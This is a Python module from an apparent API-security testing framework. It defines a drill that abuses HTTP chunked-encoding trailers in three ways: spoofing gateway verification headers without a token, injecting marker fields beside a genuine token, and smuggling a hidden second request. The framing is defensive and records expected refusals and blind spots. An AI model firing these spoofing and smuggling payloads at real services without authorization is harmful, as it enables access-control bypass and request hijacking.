"""Say behind the body what only a gate may say, to an API that takes trailers for header fields or for a request."""

from collections.abc import Sequence
from dataclasses import replace

from watchword.drill.around import RESULT_NAMES, armed, echo_sample
from watchword.drill.interface import Attack, AttackContext, Attempt, Attempts, Sample, Variant
from watchword.drill.judgements import is_of_the_api
from watchword.drill.requests import credential_of, genuine_call, proved
from watchword.drill.wire import Answer, Call, Headers
from watchword.reasons import Reason

_MARKER_BYTES = 12
_AFTERWARDS = 3
"""Genuine requests behind a hidden one: it may answer the next that shares its connection to the API."""


def _chunked(call: Call, trailers: Headers) -> Call:
    """Return the call with its body as one chunk, and these fields behind it."""
    size = b"%x\r\n%b\r\n" % (len(call.body), call.body) if call.body else b""
    behind = "".join(f"{name}: {value}\r\n" for name, value in trailers).encode("latin-1")
    framed = call.with_header("Transfer-Encoding", "chunked")
    return replace(framed, body=size + b"0\r\n" + behind + b"\r\n")


def _without_token(context: AttackContext) -> Attempts:
    """Claim to be verified, where a gate that looks at header fields doesn't look."""
    claims = tuple((name, "hardware") for name in RESULT_NAMES)
    return [
        Attempt(sample, context.wire.send(_chunked(sample.call(), claims)))
        for sample in armed(context)
    ]


def _echoed(context: AttackContext, trailers: Headers) -> tuple[Sample, Call]:
    """Return a genuine request with trailers, which the API repeats if it takes them for fields."""
    sample = echo_sample(context)
    call = replace(sample.call(), body=sample.body or b"{}")
    credential = credential_of(context.genuine(), context.facts.audience)
    return sample, _chunked(proved(context, call, credential, sample.proof), trailers)


def _beside_a_token(context: AttackContext) -> Attempts:
    """Claim to be somebody else, as a genuine instance that may speak for itself alone."""
    marker = context.random(_MARKER_BYTES).hex()
    sample, call = _echoed(context, tuple((name, marker) for name in RESULT_NAMES))
    told = "the API took what stands behind the body for what the gate says"
    return [_told(sample, [context.wire.send(call)], marker, told)]


def _second_request(context: AttackContext) -> Attempts:
    """Hide a request in the trailers: what reads the rest of a body as the next request serves it unasked."""
    marker = context.random(_MARKER_BYTES).hex()
    target = f"{echo_sample(context).call().path}?{marker}"
    sample, call = _echoed(
        context, (("x", "y"), ("get", f"{target} HTTP/1.1"), ("x-hidden", marker))
    )
    answers = [context.wire.send(call)]
    answers += [
        context.wire.send(genuine_call(context, sample, context.genuine()))
        for _ in range(_AFTERWARDS)
    ]
    told = "the API took what stands behind the body for a request or its fields"
    return [_told(sample, answers, marker, told)]


def _told(sample: Sample, answers: Sequence[Answer], marker: str, told: str) -> Attempt:
    """Return an attempt that isn't about being served: the genuine instance is."""
    if not is_of_the_api(answers[0]):
        return Attempt(sample, answers[0])
    leaked = any(marker.encode() in each.body for each in answers)
    return Attempt(sample, answers[0], served=(0, 1), leaked=told * leaked)


ATTACK = Attack(
    id="trailers",
    title="Speak for the gate behind the body, where it doesn't look",
    techniques=("MT-B03",),
    protections={"PR-B01": "live:shield.rejected_unattested"},
    needs=(),
    sends="Samples in chunks with trailers: the headers by which the gate informs the API, with and without a genuine "
    "token. Then trailers that read like a request.",
    must="Without a token it is refused. With one, the API gets no trailer, or the request is refused for its chunks.",
    blind="It sees what the API was told only if a sample's answer repeats its headers. It doesn't see a hidden "
    "request whose answer reaches nobody.",
    variants=(
        Variant(
            "without-token",
            _without_token,
            frozenset({Reason.TOKEN_MISSING, Reason.REQUEST_LENGTH_REQUIRED}),
        ),
        Variant("beside-a-token", _beside_a_token),
        Variant("second-request", _second_request),
    ),
)
